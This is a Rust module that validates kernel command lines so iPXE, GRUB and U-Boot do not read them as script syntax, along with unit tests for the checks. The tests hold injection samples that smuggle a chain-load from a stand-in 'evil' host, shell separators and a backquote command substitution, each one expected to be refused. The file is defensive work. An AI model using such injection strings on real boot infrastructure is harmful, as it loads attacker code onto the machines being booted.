//! The kernel command line of a boot plan, validated once for every loader that carries it.
//!
//! iPXE reads a script line by line, splits each line on whitespace *before* expanding `${...}`
//! settings, and treats three whole tokens as command separators: `||`, `&&` and `;`; a token
//! starting with `#` ends the line. It has no quoting and no escape character. So text that is
//! not ours (board, image and profile command lines, request facts substituted into them) can
//! only be made safe by refusing what iPXE would interpret: line breaks and other controls,
//! `${` (setting expansion), separator tokens and `#`-tokens. [`KernelCmdline`] enforces exactly
//! that.
//!
//! GRUB gets each parameter as a single-quoted word and U-Boot's PXELINUX parser expands
//! `${...}` in `append`, so loaders other than iPXE also need [`KernelCmdline::check_loader`]:
//! no quotes, backslashes, `$` or backquotes.

use std::fmt;

/// Longest kernel command line a boot plan carries (Linux's x86 limit is 2048; arm64 4096).
pub const MAX_CMDLINE_LEN: usize = 4096;

/// Why a command line cannot be carried safely.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum CmdlineError {
    /// Longer than [`MAX_CMDLINE_LEN`].
    #[error("command line is {len} bytes, the limit is {limit}")]
    TooLong {
        /// Length.
        len: usize,
        /// Limit.
        limit: usize,
    },
    /// A token iPXE would interpret.
    #[error("command line contains {what}, which iPXE would interpret: {token:?}")]
    UnsafeToken {
        /// What it is.
        what: &'static str,
        /// The token (cut to 64 characters).
        token: String,
    },
    /// A character GRUB or U-Boot would interpret.
    #[error("command line character {0:?} cannot be passed through GRUB or U-Boot")]
    UnsafeForLoader(char),
}

fn shown(token: &str) -> String {
    token.chars().take(64).collect()
}

pub(crate) fn check_token(token: &str) -> Result<(), CmdlineError> {
    let unsafe_token = |what| {
        Err(CmdlineError::UnsafeToken {
            what,
            token: shown(token),
        })
    };
    if let Some(c) = token.chars().find(|c| !c.is_ascii_graphic()) {
        return if c.is_control() {
            unsafe_token("a control character (line break, tab, ...)")
        } else {
            unsafe_token("a non-ASCII or non-printable character")
        };
    }
    if token.contains("${") {
        return unsafe_token("a setting expansion `${`");
    }
    if token.starts_with('#') {
        return unsafe_token("a comment token `#...`");
    }
    if matches!(token, "||" | "&&" | ";") {
        return unsafe_token("a command separator");
    }
    Ok(())
}

/// A kernel command line that iPXE passes through verbatim: printable ASCII tokens joined by
/// single spaces, none of which iPXE would read as syntax. Whitespace runs in the input collapse
/// to one space (iPXE would do the same when it re-joins the arguments).
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct KernelCmdline(String);

impl KernelCmdline {
    /// Validates `text`. See the module documentation for what is refused and why.
    ///
    /// # Errors
    /// [`CmdlineError`].
    pub fn parse(text: &str) -> Result<Self, CmdlineError> {
        let mut out = KernelCmdline::default();
        out.append(text)?;
        Ok(out)
    }

    /// Appends the tokens of `text` (validated as in [`KernelCmdline::parse`]); on error the
    /// command line is unchanged.
    ///
    /// # Errors
    /// [`CmdlineError`].
    pub fn append(&mut self, text: &str) -> Result<(), CmdlineError> {
        if text.len() > MAX_CMDLINE_LEN {
            return Err(CmdlineError::TooLong {
                len: text.len(),
                limit: MAX_CMDLINE_LEN,
            });
        }
        let mut next = self.0.clone();
        for token in text.split([' ', '\t']).filter(|t| !t.is_empty()) {
            check_token(token)?;
            if !next.is_empty() {
                next.push(' ');
            }
            next.push_str(token);
        }
        if next.len() > MAX_CMDLINE_LEN {
            return Err(CmdlineError::TooLong {
                len: next.len(),
                limit: MAX_CMDLINE_LEN,
            });
        }
        self.0 = next;
        Ok(())
    }

    /// The text.
    #[must_use]
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// No parameters.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// The extra rules of GRUB and U-Boot (see the module documentation).
    ///
    /// # Errors
    /// [`CmdlineError::UnsafeForLoader`] with the first offending character.
    pub fn check_loader(&self) -> Result<(), CmdlineError> {
        match self
            .0
            .chars()
            .find(|c| matches!(c, '\'' | '"' | '\\' | '$' | '`'))
        {
            Some(c) => Err(CmdlineError::UnsafeForLoader(c)),
            None => Ok(()),
        }
    }
}

impl fmt::Display for KernelCmdline {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn refuses_ipxe_syntax() {
        let bad = [
            "quiet\nchain http://evil/x",
            "quiet\rboot",
            "root=${root}",
            "a ; chain http://evil",
            "a || shell",
            "a && shell",
            "#comment",
            "x #y",
            "caf\u{e9}",
            "a\u{0}b",
            "a\u{b}b",
        ];
        for text in bad {
            assert!(KernelCmdline::parse(text).is_err(), "{text:?} accepted");
        }
        let ok = KernelCmdline::parse(" a=1   b=\"x\" c=$HOME d=x;y e=a||b f=#1 ").unwrap();
        assert_eq!(ok.as_str(), "a=1 b=\"x\" c=$HOME d=x;y e=a||b f=#1");
        let long = "a".repeat(MAX_CMDLINE_LEN + 1);
        assert!(matches!(
            KernelCmdline::parse(&long),
            Err(CmdlineError::TooLong { .. })
        ));
        let mut c = KernelCmdline::parse(&"a".repeat(MAX_CMDLINE_LEN)).unwrap();
        assert!(c.append("b").is_err());
        assert_eq!(
            c.as_str().len(),
            MAX_CMDLINE_LEN,
            "failed append left it unchanged"
        );
    }

    #[test]
    fn loader_rules_refuse_quotes_expansion_and_escapes() {
        assert!(
            KernelCmdline::parse("console=ttyAMA0 root=/dev/vda1 a;b #c")
                .unwrap_err()
                .to_string()
                .contains("comment")
        );
        assert!(
            KernelCmdline::parse("console=ttyAMA0 root=/dev/vda1 a;b")
                .unwrap()
                .check_loader()
                .is_ok()
        );
        for (bad, c) in [
            ("a='b'", '\''),
            ("a=\"b\"", '"'),
            ("x=$y", '$'),
            ("x=\\n", '\\'),
            ("x=`id`", '`'),
        ] {
            assert_eq!(
                KernelCmdline::parse(bad).unwrap().check_loader(),
                Err(CmdlineError::UnsafeForLoader(c)),
                "{bad}"
            );
        }
    }
}
